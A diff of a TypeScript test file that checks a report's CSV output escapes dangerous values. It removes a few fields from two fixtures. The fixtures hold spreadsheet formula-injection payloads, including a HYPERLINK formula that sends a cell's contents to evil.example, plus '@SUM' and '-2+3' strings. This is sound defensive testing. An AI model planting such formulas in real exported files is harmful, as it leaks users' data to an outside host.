@@ -29,8 +29,8 @@ describe('outputs escape for their sink', () => {
     const store = await openSqliteStore(join(dir, 'history.sqlite'), { now: Date.UTC(2030, 0, 1) });
     try {
       const configured: ConfiguredCheck[] = [
-        { monitor: `probe${ESC}`, tenant: '=HYPERLINK("https://evil.example/?"&A1,"open")', check: 'imap', mailbox: 'a@contoso.com', tenantId: 't', clientId: 'c' },
-        { monitor: '@SUM(1+1)', tenant: '-2+3', check: 'imap', mailbox: 'b@contoso.com', tenantId: 't', clientId: 'c' },
+        { monitor: `probe${ESC}`, tenant: '=HYPERLINK("https://evil.example/?"&A1,"open")', check: 'imap' },
+        { monitor: '@SUM(1+1)', tenant: '-2+3', check: 'imap' },
       ];
       const report = await buildReport({ store, policy: DEFAULT_POLICY, configured }, { from: Date.UTC(2030, 0, 1), to: Date.UTC(2030, 1, 1), now: Date.UTC(2030, 1, 2), label: '2030-01' });
       const rows = renderReport(report, 'csv').trimEnd().split('\r\n').slice(1);
